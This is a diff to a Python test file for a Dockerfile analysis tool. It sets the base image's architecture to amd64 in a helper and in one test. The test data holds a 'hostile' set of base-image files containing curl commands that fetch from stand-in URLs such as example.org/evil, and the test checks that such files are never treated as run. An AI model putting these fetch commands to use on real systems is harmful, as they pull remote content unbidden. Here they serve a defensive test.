@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import pytest
+from msgspec.structs import replace
 
 from freshlayer.discover.analysis import Analysis, BuildRequest, analyse
 from freshlayer.model.base_image import BaseContents, BaseImage, BaseWanted, ImageConfig
@@ -14,7 +15,11 @@ CONFIG = ImageConfig(environment=(("PATH", "/usr/local/bin:/usr/bin:/bin"), ("PY
 
 def read(text: str, config: ImageConfig | None = None, **options: object) -> Analysis:
     """A Dockerfile with ``FROM python:3.12``."""
-    known = {(PYTHON, AMD64): BaseImage(PYTHON, AMD64, "sha256:aa", config or CONFIG)}
+    known = {
+        (PYTHON, AMD64): BaseImage(
+            PYTHON, AMD64, "sha256:aa", replace(config or CONFIG, architecture="amd64")
+        )
+    }
     return analyse(text, BuildRequest((AMD64,), **options), bases=known)  # type: ignore[arg-type]
 
 
@@ -102,7 +107,9 @@ def test_a_file_of_the_base_never_runs() -> None:
         "/etc/os-release": "ID=debian\ncurl https://example.org/evil\n",
         "/etc/apt/x.sh": "curl https://e.org/a",
     }
-    image = BaseImage(PYTHON, AMD64, "sha256:aa", CONFIG, BaseContents(hostile))
+    image = BaseImage(
+        PYTHON, AMD64, "sha256:aa", replace(CONFIG, architecture="amd64"), BaseContents(hostile)
+    )
     found = analyse(text, BuildRequest((AMD64,)), bases={image_key(): image})
     assert urls(found) == []
 
